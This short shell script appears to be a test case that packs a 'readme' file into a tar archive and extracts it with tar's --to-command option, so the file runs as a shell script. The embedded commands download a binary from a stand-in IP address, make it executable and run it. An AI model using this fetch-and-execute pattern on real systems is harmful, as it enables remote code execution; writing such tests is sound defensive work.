#!/bin/sh
. /opt/case/case.sh

mkdir /tmp/b && printf 'curl -fs http://203.0.113.10/programs/marker -o /tmp/.m\nchmod +x /tmp/.m\n/tmp/.m\n' >/tmp/b/readme
tar -C /tmp/b -cf /tmp/b.tar readme && rm -r /tmp/b
tar -xf /tmp/b.tar --to-command='sh'
test -e /tmp/reached
took_place
